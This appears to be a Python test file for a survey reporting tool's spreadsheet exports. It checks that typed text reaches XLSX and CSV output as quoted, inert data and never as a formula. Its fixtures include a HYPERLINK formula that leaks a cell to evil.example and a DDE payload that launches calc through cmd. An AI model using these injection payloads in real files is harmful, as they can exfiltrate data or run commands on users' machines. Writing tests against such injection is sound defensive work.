"""Text that people typed reaches the report's workbook and CSV as data: never a formula, and
never a reason for the report not to publish (control characters included)."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from analysis.build import SurveyFrame, evaluate_report
from analysis.kpis import framework
from analysis.model import KpiReport
from analysis.publish import publish
from analysis.render.text import to_csv
from analysis.render.xlsx import report_xlsx
from collector import models
from collector.spreadsheets import FORMULA_STARTS, csv_cell, visible_controls
from tests.analysis.builders import invitation_counts, response_frame, round_ref
from tests.analysis.samples import H1, NARRATIVES, SURVEY, sample_counts, sample_rows
from tests.analysis.test_publish import answered_round

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PERIOD = "=1+1 H2"
CONTROLS = "Potter\x0bStreet\x1f"


def hostile_report() -> KpiReport:
    """Give the sample essex-2017 report with a period, districts and narratives that a
    spreadsheet would run, and a district with control characters in it."""
    rows = sample_rows()
    renamed = {"Old Harlow": HYPERLINK, "Potter Street": CONTROLS}
    for row in rows:
        row["district"] = renamed.get(row["district"], row["district"])
    h2 = round_ref(2, PERIOD, months=6)
    surveys = {"cvs-support": SurveyFrame(response_frame(rows, SURVEY), SURVEY)}
    report = evaluate_report(
        framework("essex-2017"), h2, [H1, h2], surveys, invitation_counts(sample_counts(rows))
    )
    return report.with_narratives({**NARRATIVES, "ix": "@SUM(1+1)*cmd|' /C calc'!A0"})


def cells(data: bytes) -> list[Any]:
    """Give every cell of every sheet of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_workbook_holds_typed_text_as_text_never_as_a_formula() -> None:
    every = cells(report_xlsx(hostile_report()))
    formulas = [cell.coordinate for cell in every if cell.data_type == "f"]
    assert formulas == []
    values = [cell.value for cell in every if isinstance(cell.value, str)]
    assert HYPERLINK in values  # the district, as typed, in the breakdowns
    assert any(value.startswith(PERIOD) for value in values)
    assert any(value.startswith("@SUM") for value in values)  # the narrative
    typed = [cell for cell in every if isinstance(cell.value, str) and cell.value[:1] in "=@"]
    assert typed and all(cell.quotePrefix for cell in typed)


def test_the_workbook_shows_control_characters_as_their_pictures() -> None:
    values = {cell.value for cell in cells(report_xlsx(hostile_report()))}
    assert "Potter\u240bStreet\u241f" in values


def number(text: str) -> bool:
    """Tell whether a CSV cell is a number."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_csv_quotes_every_cell_a_spreadsheet_would_run() -> None:
    rows = list(csv.reader(io.StringIO(to_csv([hostile_report()]))))
    every = [cell for row in rows for cell in row]
    # Negative figures (changes) stay numbers; only text is quoted.
    assert not [cell for cell in every if cell.startswith(FORMULA_STARTS) and not number(cell)]
    assert "'" + HYPERLINK in every and "'" + PERIOD in every


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1279", "'+44 1279"),
        ("-5", "'-5"),
        ("@user", "'@user"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Harlow", "Harlow"),
        ("", ""),
        (-5, -5),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_a_csv_cell_is_quoted_only_where_a_spreadsheet_would_run_it(
    value: object, written: object
) -> None:
    assert csv_cell(value) == written


def test_every_control_character_an_xlsx_cannot_hold_has_a_picture() -> None:
    controls = "".join(chr(code) for code in range(32) if chr(code) not in "\t\n\r")
    shown = visible_controls(f"a{controls}b\t\n\r")
    assert shown == "a" + "".join(chr(0x2400 + ord(c)) for c in controls) + "b\t\n\r"
    assert openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(shown) is None


def test_a_round_whose_answers_carry_control_characters_still_publishes(
    session: Session,
) -> None:
    round_ = answered_round(session)
    # What a district typed with a vertical tab (or pasted from a PDF) leaves on the responses.
    session.execute(
        update(models.Response)
        .where(models.Response.round_id == round_.id, models.Response.district == "Shenfield")
        .values(district="Shen\x0bfield")
    )
    session.execute(
        update(models.Round).where(models.Round.id == round_.id).values(period_label=PERIOD)
    )
    session.expire_all()
    publish(session, round_, published_by="staff")
    snapshots = session.scalars(
        select(models.ReportSnapshot).where(models.ReportSnapshot.round_id == round_.id)
    ).all()
    assert snapshots and all(s.xlsx and s.pdf for s in snapshots)
    for snapshot in snapshots:
        every = cells(snapshot.xlsx)
        assert not [cell.coordinate for cell in every if cell.data_type == "f"]
        values = {cell.value for cell in every}
        assert "Shen\u240bfield" in values
        assert any(isinstance(v, str) and v.startswith(PERIOD) for v in values)
